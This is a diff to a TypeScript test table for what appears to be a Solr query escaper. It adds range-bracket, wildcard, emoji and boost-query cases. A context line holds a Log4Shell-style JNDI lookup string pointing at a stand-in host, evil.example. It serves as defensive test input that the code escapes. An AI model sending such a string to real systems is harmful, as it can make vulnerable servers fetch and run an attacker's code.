@@ -34,6 +34,10 @@ const FILTERS: readonly (readonly [string, string])[] = [
   ['fs_price:[* TO 300]', 'fs_price:[* TO 300]'],
   ['fs_price:[-1.5 TO *]', 'fs_price:[-1.5 TO *]'],
   ['fs_price:[0.000000001 TO 999999999999999]', 'fs_price:[0.000000001 TO 999999999999999]'],
+  ['fs_price:{100 TO 200}', 'fs_price:{100 TO 200}'],
+  ['fs_price:[100 TO 200}', 'fs_price:[100 TO 200}'],
+  ['fs_price:{-1.5 TO *}', 'fs_price:{-1.5 TO *}'],
+  ['{!tag=RiotSolrWidget,fs_price}fs_price:{* TO 200]', '{!tag=RiotSolrWidget,fs_price}fs_price:{* TO 200]'],
   ['fs_price:3.0', 'fs_price:"3.0"'],
   ['-sm_amenity:[* TO *]', '-sm_amenity:[* TO *]'],
   [
@@ -51,7 +55,11 @@ const FILTERS: readonly (readonly [string, string])[] = [
   // What looks like an operator is a value like any other.
   ['ss_town:OR', 'ss_town:"OR"'],
   ['ss_town:a*', 'ss_town:"a*"'],
-  ['ss_town:*', 'ss_town:"*"'],
+  // A star alone asks for any value, as it does of Solr; in quotes, and in a list, it is one.
+  ['ss_town:*', 'ss_town:[* TO *]'],
+  ['-ss_town:*', '-ss_town:[* TO *]'],
+  ['ss_town:"*"', 'ss_town:"*"'],
+  ['ss_town:( * OR Duck )', 'ss_town:("*" OR "Duck")'],
   ['ss_town:Washer(s)', 'ss_town:"Washer(s)"'],
   ['ss_town:-x', 'ss_town:"-x"'],
   ['ss_town:10:30', 'ss_town:"10:30"'],
@@ -104,6 +112,8 @@ const WORDS: readonly (readonly [string, string])[] = [
   ['${jndi:ldap://evil.example/a}', '\\$\\{jndi\\:ldap\\:\\/\\/evil.example\\/a\\}'],
   ['été à la plage', 'été à la plage'],
   ['海辺', '海辺'],
+  ['lake 🏖 house', 'lake 🏖 house'],
+  ['🏖', '🏖'],
   ['&', '\\&'],
 ];
 
@@ -152,6 +162,11 @@ const CAPTURED: readonly Benign[] = [
     name: 'a boost query',
     form: `bq=${e('ss_town:"Nags Head"^2.5')}&bq=${e('ss_town:Duck')}&fq=index_id:rci`,
     sends: ['bq=ss_town:"Nags Head"^2.5', 'bq=ss_town:"Duck"'],
+  },
+  {
+    name: 'a boost query whose value holds what looks like a weight: in quotes it is none',
+    form: `bq=${e('ss_town:"Duck^9"')}&bq=${e('ss_town:( "a^1e9" OR b )^3')}&fq=index_id:rci`,
+    sends: ['bq=ss_town:"Duck^9"', 'bq=ss_town:("a^1e9" OR "b")^3'],
   },
   {
     name: "a block's own parameters, whatever they are",
